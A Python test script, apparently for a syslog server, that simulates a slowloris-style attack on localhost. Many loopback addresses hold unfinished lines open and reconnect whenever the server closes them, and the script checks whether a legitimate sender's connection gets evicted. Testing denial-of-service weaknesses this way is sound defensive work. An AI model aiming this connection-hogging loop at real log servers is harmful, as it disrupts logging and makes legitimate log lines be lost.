"""A legitimate syslog sender (127.0.0.1) keeps ONE TCP connection open and sends a line
every EVERY s (as rsyslog/syslog-ng do). An attacker holds one unfinished line per address
from NADDR addresses (127.0.1.x, ...), re-opening each one the server closes and opening more in turn. Is the legitimate
connection closed (a plain-TCP syslog sender can lose the lines written into a closed socket)?
usage: syslog_idle_evict.py PORT NADDR SECONDS EVERY"""
import sys, socket, time, selectors
port, naddr, secs, every = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
def addr(i): i %= naddr; return f"127.0.{1 + i // 250}.{1 + i % 250}"
legit = socket.create_connection(("127.0.0.1", port)); legit.sendall(b"<13>legit first line\n"); time.sleep(0.5); legit.setblocking(False)
sel = selectors.DefaultSelector(); nxt = [0]; opened = closed = 0
def hog():
    global opened
    i = nxt[0]; nxt[0] += 1
    c = socket.socket(); c.settimeout(3); c.bind((addr(i), 0))
    try: c.connect(("127.0.0.1", port)); c.send(b"<1"); sel.register(c, selectors.EVENT_READ); opened += 1
    except OSError: c.close()
for _ in range(naddr): hog()
t0 = time.time(); t_end = t0 + secs; nl = time.time() + every; sent = 1; legit_closed = None
while time.time() < t_end:
    for key, _ in sel.select(0.05):
        c = key.fileobj
        try: d = c.recv(100)
        except OSError: d = b""
        if not d: sel.unregister(c); c.close(); closed += 1; hog()
    hog()
    if legit_closed is None:
        try:
            if legit.recv(10) == b"": legit_closed = time.time() - t0
        except BlockingIOError: pass
        except OSError: legit_closed = time.time() - t0
    if time.time() >= nl and legit_closed is None:
        nl += every
        try: legit.send(b"<13>legit line\n"); sent += 1
        except OSError: legit_closed = time.time() - t0
print(f"attacker: {naddr} addresses, {opened} opened, {closed} closed by the server; legit lines sent {sent}; "
      f"legit connection {'closed by the server after %.1f s' % legit_closed if legit_closed is not None else 'still open'}")
